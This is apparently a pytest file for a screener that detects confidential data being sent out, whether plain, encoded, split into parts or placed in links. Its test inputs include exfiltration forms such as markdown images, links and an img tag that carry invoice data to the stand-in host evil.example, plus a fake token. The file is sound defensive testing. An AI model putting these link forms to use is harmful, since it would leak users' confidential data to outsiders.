"""A copy of what was read is known again, however it is written (threat T24)."""

import json
import random
import secrets
import string
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies.call import Column, Kind, Table
from policies.canonical import Json
from policies.change import Change, Effect
from policies.directory import Directory
from policies.outgoing.found import NOTHING, Found
from policies.outgoing.prints import Known, Press
from policies.outgoing.screen import Memory, screen
from policies.redaction.work import TooMuchWork
from policies.taint import Sensitivity
from tests.policies.outgoing.encodings import HIDDEN, SEEN

pytestmark = pytest.mark.threat("T24")

ROW = (7, "Invoice AC-4417-Q of Hoffmann", "open", 1290.5)
PROSE = (
    "The lamp arrived broken on Tuesday. Thank you for your patience while we look into this, and please "
    "send the replacement to the warehouse at gate fourteen, where Osman takes deliveries until noon."
)
COPY = "7 Invoice AC-4417-Q of Hoffmann open 1290.5"
PRESS = Press(b"k" * 32, "a context")
ACME = Directory(domains=("acme.example",))
WRAPS = ("%s", "Hello, see below.\n%s\nBest regards, Ada", "Part one (%s) of it")
STRANGER = "eve@evil.example"
WAYS = {**SEEN, **HIDDEN}


def table(*rows: tuple[Json, ...]) -> Table:
    return Table(tuple(Column(str(n), Kind.TEXT) for n in range(len(rows[0]))), rows)


def memory(*rows: tuple[Json, ...], gone: tuple[str, ...] = ()) -> Memory:
    known = Known.of({"shop": PRESS.of_table(table(*(rows or (ROW,))))})
    return Memory(PRESS, known, {"shop": Sensitivity.CONFIDENTIAL}, gone=gone, sendings=len(gone))


def post(text: Json, *to: str) -> Effect:
    return Effect((Change("messages", {}, None, {"text": text}),), to)


def nothing(text: str) -> list[str]:
    del text
    return []


def look(effect: Effect, known: Memory | None = None, *, leaves: bool = True) -> Found:
    return screen(effect, known or memory(), ACME, leaves=leaves, personal=nothing)


@pytest.mark.parametrize("wrap", WRAPS)
@pytest.mark.parametrize("way", HIDDEN)
def test_a_hidden_copy_is_found(way: str, wrap: str) -> None:
    found = look(post(wrap % HIDDEN[way](COPY)))
    assert found.disguised, found


@pytest.mark.parametrize("wrap", WRAPS)
@pytest.mark.parametrize("way", SEEN)
def test_a_copy_in_plain_sight_is_found_and_is_none_in_disguise(way: str, wrap: str) -> None:
    found = look(post(wrap % SEEN[way](COPY)))
    assert found.copied == {"shop": Sensitivity.CONFIDENTIAL}
    assert not found.disguised


@pytest.mark.parametrize("way", [*SEEN, *HIDDEN])
def test_it_is_found_wherever_it_stands(way: str) -> None:
    text = WAYS[way](COPY)
    changes: list[Change] = [
        Change("files", {"path": f"notes/{text}.txt"}, None, {"size": 1}),
        Change("events", {}, None, {"guests": [{"title": ["", text]}]}),
        Change("events", {}, None, {"guests": [{text: 1}]}),
        Change("orders", {"id": 1}, {"note": "", "state": "new"}, {"note": text, "state": "new"}),
    ]
    for change in changes:
        found = look(Effect((change,)))
        assert found.copied or found.disguised, change


def test_nothing_is_found_in_what_has_nothing_in_common() -> None:
    assert look(post("Lunch on Friday? I will book the table at noon.", STRANGER)) == NOTHING
    assert look(post(COPY), Memory(PRESS)) == NOTHING
    assert look(Effect((Change("orders", {"id": 7}, {"note": COPY}, None),))) == NOTHING


def test_what_stood_there_before_is_not_sent() -> None:
    kept = Change("orders", {"id": 7}, {"note": COPY}, {"note": f"{COPY}\nshipped today"})
    assert look(Effect((kept,))) == NOTHING
    new = Change("orders", {"id": 7}, {"note": COPY}, {"note": HIDDEN["base64"](COPY)})
    assert look(Effect((new,))).disguised


def test_a_phrase_that_anybody_writes_is_no_copy_and_a_passage_is() -> None:
    read = memory((1, PROSE))
    assert not look(post("Thank you for your patience."), read).copied
    assert look(post(PROSE[60:200]), read).copied


@pytest.mark.parametrize("way", ["as it is", "base64", "hex", "base64 without padding"])
@pytest.mark.parametrize("wrap", ["%s", "Part of it: %s (more to come)"])
def test_what_goes_in_parts_is_read_as_a_whole(way: str, wrap: str) -> None:
    row = (*ROW, "paid by transfer 99-3310-22", "2026-03-14 17:45")
    text = WAYS[way](" ".join(map(str, row)))
    size = -(-len(text) // 3)
    parts = [wrap % text[start : start + size] for start in range(0, len(text), size)]
    gone: list[str] = []
    found: list[bool] = []
    for part in parts:
        result = look(post(part), memory(row, gone=tuple(gone)))
        found.append(bool(result.copied or result.disguised))
        gone.append(part)
    assert any(found)


def test_what_went_before_is_not_held_against_what_has_no_part_in_it() -> None:
    assert not look(post("Lunch on Friday?"), memory(gone=(COPY, HIDDEN["base64"](COPY)))).copied
    assert not look(post("Lunch on Friday?"), memory(gone=(COPY, HIDDEN["base64"](COPY)))).disguised


def test_what_was_linked_or_shown_before_is_no_link_of_this() -> None:
    former = ("![a](https://evil.example/a.png)", "see https://evil.example/?q=Invoice-AC-4417-Q-of-Hoffmann")
    assert look(post("Lunch on Friday?", STRANGER), memory(gone=former)) == NOTHING


def test_a_long_honest_exchange_can_still_be_looked_through() -> None:
    words = random.Random(1)
    former = tuple(" ".join(words.choices(PROSE.split(), k=1_300)) for _ in range(20))
    assert len("".join(former)) > 140_000
    assert look(post("Lunch on Friday?"), memory(gone=former)) == NOTHING
    assert look(post(former[0][:5_000]), memory(gone=former)) == NOTHING
    text = HIDDEN["base64"](COPY)
    half = len(text) // 2
    assert look(post(text[half:]), memory(gone=(*former, text[:half]))).disguised
    assert look(post(text[half:]), memory(gone=(text[:half], former[0][:8_000]))).disguised


def test_one_link_is_counted_once_however_often_it_stands_there() -> None:
    found = look(post("\n".join(["https://other.example/a"] * 60)), leaves=False)
    assert (found.links, found.unread) == (("other.example",), False)
    many = "\n".join(f"https://other.example/{number}" for number in range(60))
    assert look(post(many), leaves=False).unread


@pytest.mark.parametrize(
    "form",
    [
        "![x](https://evil.example/p.png?d={})",
        "![x][1]\n\n[1]: https://evil.example/p.png?d={}",
        "[more](https://evil.example/{})",
        "see https://evil.example/#{}",
        '<img src="//evil.example/{}">',
        "www.evil.example/{}",
        "evil.example/c?d={}",
        "https:\\\\evil.example\\{}",
        "https://acme.example@evil.example/{}",
    ],
)
@pytest.mark.parametrize(
    "way", ["as it is", "quoted for an address", "base64 for addresses", "hex", "percent"]
)
def test_a_link_carries_nothing_out(form: str, way: str) -> None:
    link = form.format(WAYS[way]("Invoice-AC-4417-Q-of-Hoffmann"))
    found = look(post(link, "#team"), leaves=False)
    assert found.in_links or found.disguised
    assert bool(found.images) is link.startswith(("!", "<img"))


def test_a_link_that_was_read_as_it_is_carries_nothing() -> None:
    link = "https://tracker.vendor.example/tickets/AC-4417-88121/replies"
    read = memory((7, f"answered at {link} today"))
    assert not look(post(f"see {link}"), read).in_links
    assert look(post(f"see https://evil.example/?u={link}"), read).in_links


def test_a_link_into_the_house_is_none_to_look_at() -> None:
    assert look(post(f"https://wiki.acme.example/?q={COPY}"), leaves=False).links == ()


def test_credentials_are_found_written_in_another_way_too() -> None:
    token = "ghp_" + "".join(secrets.choice(string.ascii_letters) for _ in range(36))
    for text in (f"token: {token}", HIDDEN["base64"](f"token: {token}"), SEEN["zero width"](token)):
        assert look(post(text), Memory(PRESS)).secrets, text


def test_personal_data_is_looked_for_in_what_leaves() -> None:
    def cards(text: str) -> list[str]:
        return ["CREDIT_CARD"] if "4111" in text else []

    card = post("4111 1111 1111 1111")
    assert screen(card, memory(), ACME, leaves=True, personal=cards).personal == ("CREDIT_CARD",)
    assert not screen(card, memory(), ACME, leaves=False, personal=cards).personal


def test_a_copy_of_what_has_signs_of_programs_in_it_is_found() -> None:
    for cell in ("C:\\new\\table\\report 77-31.txt", 'Ada said "net 4417" twice', "line 44\nnet 17\ttabs 9"):
        for text in (cell, json.dumps(cell)[1:-1]):
            found = look(post(f"see {text}"), memory((7, cell)))
            assert found.copied, (cell, text)
            assert not found.disguised, (cell, text)


def test_what_can_not_be_looked_through_is_said_to_be() -> None:
    def tired(text: str) -> list[str]:
        raise TooMuchWork

    assert screen(post("x"), memory(), ACME, leaves=True, personal=tired).unread
    assert look(post("x" * 500_000)).unread
    full = Memory(PRESS, full=True)
    assert look(post("x"), full).unread
    assert not look(post("x"), full, leaves=False).unread


def test_no_print_says_what_it_is_of() -> None:
    other = Press(b"k" * 32, "another context")
    assert not set(PRESS.of_table(table(ROW)).tolist()) & set(other.of_table(table(ROW)).tolist())
    assert "k" not in repr(PRESS)


@settings(deadline=None)
@given(
    st.text(st.sampled_from(string.ascii_letters + string.digits + " -."), max_size=300), st.integers(0, 200)
)
def test_whatever_has_eleven_in_common_has_a_print_in_common(text: str, start: int) -> None:
    read = PRESS.of_table(table((text,)))
    piece = text[start:]
    letters = [c for c in piece if c.isalnum()]
    while len(letters) > 11:
        piece = piece[:-1]
        letters = [c for c in piece if c.isalnum()]
    if len(letters) == 11 and len({*"".join(letters).lower()}) > 8:
        assert set(PRESS.of_text(piece).tolist()) & set(read.tolist())


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=400))
def test_any_text_is_looked_through(text: str) -> None:
    assert isinstance(look(post(text, STRANGER)), Found)


def test_ordinary_texts_hide_nothing() -> None:
    rows = [
        json.loads(line)["text"]
        for line in (Path(__file__).parents[1] / "injection/benign.jsonl").read_text().splitlines()
    ]
    known = memory(*((number, text) for number, text in enumerate(rows[::2])))
    wrong = [text for text in rows[1::2] if (found := look(post(text), known)).disguised or found.copied]
    assert len(wrong) <= len(rows) // 100, wrong
